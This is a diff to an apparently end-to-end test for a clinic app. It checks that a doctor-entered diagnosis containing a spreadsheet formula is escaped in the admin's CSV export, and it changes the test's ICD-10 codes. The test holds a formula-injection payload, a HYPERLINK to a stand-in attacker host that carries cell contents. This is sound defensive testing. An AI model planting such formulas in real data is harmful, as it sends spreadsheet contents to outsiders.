@@ -161,10 +161,11 @@ test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CS
   const doctor = bearer((await apiToken(request, USERS.DOCTOR)).token);
   const patientId = await demoPatientId(request, "Sam Patient");
   const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+  // Codes of the shipped ICD-10-CM list (entry refuses others): the test is about the descriptions.
   for (let i = 0; i < 3; i++) {
     const res = await request.post("/api/v1/consultations", {
       headers: doctor,
-      data: { patientId, assessment: "Fever.", diagnoses: [{ code: "U99.8", description: evil }, { code: "U99.9", description: "Fièvre à 39,5 °C" }] },
+      data: { patientId, assessment: "Fever.", diagnoses: [{ code: "A98.4", description: evil }, { code: "A92.0", description: "Fièvre à 39,5 °C" }] },
     });
     expect(res.status(), await res.text()).toBe(201);
   }
@@ -176,6 +177,6 @@ test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CS
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
   expect(lines[0]).toBe("ICD-10 code,Description,Count"); // headed for a person, in the admin's language
-  expect(lines).toContain('U99.8,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3');
-  expect(lines).toContain("U99.9,\"Fièvre à 39,5 °C\",3");
+  expect(lines).toContain('A98.4,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3');
+  expect(lines).toContain("A92.0,\"Fièvre à 39,5 °C\",3");
 });
